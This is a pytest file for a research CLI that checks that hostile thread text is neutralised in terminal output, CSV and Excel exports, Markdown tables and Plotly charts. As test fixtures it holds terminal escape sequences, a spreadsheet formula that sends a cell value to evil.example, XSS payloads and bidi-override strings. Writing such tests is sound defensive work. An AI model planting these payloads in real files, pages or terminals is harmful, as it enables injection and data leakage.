"""Hostile thread text on its way out (issue 13 items 2, 6, 7): terminals get literal text without
escape sequences, sheets and CSV tables get no live formula, Markdown tables keep their columns and
carry no HTML, and chart labels carry no live link."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from conftest import run_cli
from local_server import LocalServer, QuietHandler

ESC = "\x1b"
OSC_TITLE = f"{ESC}]0;pwned\x07"
CLEAR = f"{ESC}[2J"
LINK = '<a href="https://evil.example" target="_blank">x</a>'
FORMULA = '=HYPERLINK("https://evil.example/x?"&A2,"click")'
# (title, category): each category holds 3 of the 24 threads.
PAYLOADS = [
    ("[/x] closing tag", "[/x]"),
    (f"{OSC_TITLE}osc title {CLEAR}cleared", f"cat{ESC}[31m"),
    (FORMULA, LINK),
    ("+1+2 plus", "a|b|c"),
    ("-2+3 minus", "<script>alert(1)</script>"),
    ("@SUM(1,1) at", "<img src=x onerror=alert(1)>"),
    ("[link=https://evil.example]click[/link]", "[bold]b"),
    ("\tTab start\rreturn", '<a href="javascript:alert(1)">j</a>'),
]
# C0 controls but newline and tab, DEL, C1 (whole escape sequences are removed with their ESC).
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    with open(folder / "h.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "title", "body", "category", "created_at", "is_resolved", "score", "views"])
        for i in range(24):
            title, category = PAYLOADS[i % len(PAYLOADS)]
            w.writerow(
                [
                    f"t{i:02}",
                    title,
                    f"body {title} about prompts",
                    category,
                    f"2024-0{1 + i % 6}-1{i % 9}T00:00:00Z",
                    int(i >= 8),
                    -i,
                    i,
                ]
            )
    db = folder / "h.duckdb"
    proc = run_cli("ingest", "table", str(folder / "h.csv"), "--source", "hs", db=db)
    assert proc.returncode == 0, proc.stderr
    _assert_inert(proc)
    return db


def _assert_inert(proc) -> None:
    for stream in (proc.stdout, proc.stderr):
        assert not CONTROL.search(stream), repr(CONTROL.search(stream))
        assert "0;pwned" not in stream and "[2J" not in stream and "[31m" not in stream  # no leftover of a sequence


def _copy(db: Path, tmp_path: Path) -> Path:
    import shutil

    return Path(shutil.copy(db, tmp_path / db.name))


@pytest.mark.parametrize(
    "args",
    [
        ("metrics", "--by", "category"),
        ("metrics", "--by", "category", "--csv"),
        ("hotspots", "--by", "category", "--min-threads", "1"),
        ("ask", "prompts [/x]", "--k", "16", "--embedding", "lsa"),
    ],
    ids=["metrics", "metrics-csv", "hotspots", "ask"],
)
def test_commands_print_data_as_literal_text(hostile, tmp_path, args):
    proc = run_cli(*args, db=_copy(hostile, tmp_path))
    assert proc.returncode == 0, proc.stderr
    _assert_inert(proc)
    assert "[/x]" in proc.stdout  # shown, not read as Rich markup
    if args[0] == "ask":
        assert "[link=https://evil.example]click[/link]" in proc.stdout


class EscapingChat(LocalServer):
    """A model that answers with terminal escapes and Rich markup."""

    def __init__(self) -> None:
        self._start("/v1")

    def _handler(self):
        class Handler(QuietHandler):
            def do_POST(self):
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                text = f"{OSC_TITLE}{CLEAR}Fix it [1] [link=https://evil.example]here[/link] \x9b2J[/x]"
                message = {"role": "assistant", "content": text}
                self.send_json(
                    200,
                    {
                        "id": "x",
                        "object": "chat.completion",
                        "model": body["model"],
                        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                        "usage": {"prompt_tokens": 1, "completion_tokens": 1},
                    },
                )

        return Handler


def test_ask_draft_is_printed_inert(hostile, tmp_path):
    with EscapingChat() as chat:
        env = {"DEVQUARRY_OPENAI_BASE_URL": chat.base, "DEVQUARRY_CHAT_MODEL": "m", "DEVQUARRY_OPENAI_API_KEY": "sk-x"}
        proc = run_cli("ask", "prompts plus", "--k", "3", "--embedding", "lsa", "--draft", db=_copy(hostile, tmp_path), env=env)
    assert proc.returncode == 0, proc.stderr
    _assert_inert(proc)
    assert "Fix it [1] [link=https://evil.example]here[/link] [/x]" in proc.stdout


@pytest.mark.parametrize(
    "args",
    [
        ("ingest", "table", "a[/b]c.json", "--source", "x"),
        ("tables", "--out", "out[/x]/t\x1b]0;pwned\x07"),
        ("sample", "--codebook", "chen2024-forum", "--size", "4", "--out", "s[/x]\x1b[2J.txt"),
    ],
    ids=["ingest", "tables", "sample"],
)
def test_paths_with_markup_and_escapes(hostile, tmp_path, args):
    proc = run_cli(*args, db=_copy(hostile, tmp_path), cwd=tmp_path)
    _assert_inert(proc)
    if args[0] == "tables":  # a folder may be named so: it is written, and its paths printed literally
        assert proc.returncode == 0, proc.stderr
        assert "out[/x]/t" in proc.stdout
    else:
        assert proc.returncode == 2, proc.stderr
        assert proc.stderr.count("\n") == 1 and "[/" in proc.stderr, proc.stderr


def _sheet_cells(path: Path) -> list:
    import openpyxl

    book = openpyxl.load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_label_sheets_hold_no_formula_and_labels_come_back(hostile, tmp_path):
    db = _copy(hostile, tmp_path)
    for name in ("s.xlsx", "s.csv"):
        proc = run_cli("sample", "--codebook", "chen2024-forum", "--size", "24", "--out", str(tmp_path / name), db=db)
        assert proc.returncode == 0, proc.stderr
    cells = _sheet_cells(tmp_path / "s.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    titles = [c.value for c in cells if c.column_letter == "D" and c.row > 1 and c.parent.title == "labels"]
    assert f"'{FORMULA}" in titles and "'+1+2 plus" in titles and "'-2+3 minus" in titles and "'@SUM(1,1) at" in titles
    assert not any(isinstance(v, str) and CONTROL.search(v.replace("\r", "")) for v in titles)  # XML cannot hold ESC

    with open(tmp_path / "s.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 24
    assert not [v for row in rows for v in row.values() if v.startswith(TRIGGERS)]
    assert f"'{FORMULA}" in {row["title"] for row in rows}

    # Labels typed into the sheet still reach their threads: the import keys on source and id.
    sheet = pd.read_csv(tmp_path / "s.csv", dtype=str, keep_default_na=False)
    sheet["label_rater1"] = "A.1"
    sheet.to_csv(tmp_path / "filled.csv", index=False)
    proc = run_cli("labels", "import", str(tmp_path / "filled.csv"), "--codebook", "chen2024-forum", "--json", db=db)
    assert proc.returncode == 0, proc.stderr
    counts = json.loads(proc.stdout)
    assert counts[0]["coded"] == 24 and counts[0]["threads_not_in_store"] == 0


def test_csv_tables_hold_no_formula_but_keep_negative_numbers(hostile, tmp_path):
    from devquarry.report.export import _write

    proc = run_cli("tables", "--out", str(tmp_path / "csv"), db=_copy(hostile, tmp_path))
    assert proc.returncode == 0, proc.stderr
    cells = []
    for path in (tmp_path / "csv").glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            cells += [v for row in csv.reader(f) for v in row]
    assert '\'<a href="https://evil.example" target="_blank">x</a>' not in cells  # only dangerous cells change
    assert LINK in cells and "'=x" not in cells
    for v in cells:
        assert not v.startswith(TRIGGERS) or re.fullmatch(r"-[\d.e+-]+", v), v

    # Ingest trims titles, so the tab and carriage-return cases are written directly.
    groups = [FORMULA, "-2+3", "\tTab", "\rCR", "ok"]
    df = pd.DataFrame({"group": groups, "slope": [-1.5, 2.0, -0.25, 0.0, 1.0], "n": [-3, 4, 5, 6, 7]})
    _write(df, tmp_path / "t.csv", "csv")
    back = pd.read_csv(tmp_path / "t.csv", keep_default_na=False)
    assert list(back.group) == [f"'{FORMULA}", "'-2+3", "'\tTab", "'\nCR", "ok"]  # a bare CR would break the row
    assert list(back.slope) == [-1.5, 2.0, -0.25, 0.0, 1.0] and list(back.n) == [-3, 4, 5, 6, 7]


def _md_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_markdown_tables_keep_their_columns_and_carry_no_html(hostile, tmp_path):
    proc = run_cli("tables", "--format", "markdown", "--out", str(tmp_path / "md"), db=_copy(hostile, tmp_path))
    assert proc.returncode == 0, proc.stderr
    texts = {p.name: p.read_text(encoding="utf-8") for p in (tmp_path / "md").glob("*.md")}
    assert "a\\|b\\|c" in "".join(texts.values())
    for name, text in texts.items():
        lines = [line for line in text.splitlines() if line.strip()]
        assert len({_md_pipes(line) for line in lines}) == 1, (name, text)
        lowered = text.lower()
        assert "<script" not in lowered and "<img" not in lowered and "<a " not in lowered, (name, text)
        assert not CONTROL.search(text)


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from _strings(v)
    elif hasattr(value, "tolist"):
        yield from _strings(value.tolist())


def test_chart_labels_carry_no_live_html(hostile, tmp_path):
    from devquarry.report.data import report_data
    from devquarry.report.plots import group_series, hotspot_map, report_figures, topics_over_time
    from devquarry.store import Store

    store = Store(_copy(hostile, tmp_path), read_only=True)
    try:
        data = report_data(store)
    finally:
        store.close()
    figs = dict(report_figures(data))
    assert data["by"] == "category" and "unresolved_by_group" in figs
    groups = pd.DataFrame(
        {"group": [LINK, "b"], "threads": [5, 3], "popularity": [0.2, 0.9], "difficulty": [0.5, 0.4], "score": [0.3, 0.6]}
    )
    figs["hotspots"] = hotspot_map(groups)
    figs["series"] = group_series(
        pd.DataFrame({"group": [LINK, LINK], "period": ["2024Q1", "2024Q2"], "threads": [1, 2]}), "quarter"
    )
    over = pd.DataFrame({"topic_id": [0, 0], "label": [LINK, LINK], "period": ["2024-01-01", "2024-04-01"], "threads": [1, 2]})
    figs["topics"] = topics_over_time(over)
    for name, fig in figs.items():
        strings = list(_strings(fig.to_plotly_json()))
        live = [s for s in strings if re.search(r"<\s*(a|img|script)\b", s, re.I)]
        assert live == [], (name, live)
    shown = [s for fig in figs.values() for s in _strings(fig.to_plotly_json())]
    assert any("&lt;a href=" in s for s in shown)  # escaped, so plotly shows the text itself


def test_any_commands_csv_output_starts_no_formula(hostile, tmp_path):
    """`--csv` on any command writes what a spreadsheet may open: titles like =HYPERLINK(...) come out inert."""
    proc = run_cli(
        "ask", "hyperlink click plus minus sum", "--k", "24", "--embedding", "lsa", "--csv", db=_copy(hostile, tmp_path)
    )
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    cells = [v for row in rows[1:] for v in row]
    assert f"'{FORMULA}" in cells and "'+1+2 plus" in cells and "'@SUM(1,1) at" in cells
    for v in cells:
        assert not v.startswith(TRIGGERS) or re.fullmatch(r"-[\d.e+-]+", v), v


def test_bidi_overrides_do_not_reorder_a_printed_line():
    from devquarry.safe_text import terminal_text

    # "Trojan Source": U+202E shows the rest of the line reversed; isolates too. Other scripts stay.
    assert terminal_text("safe\u202e)lave(\u2066x\u2069 中文 é") == "safe)lave(x 中文 é"
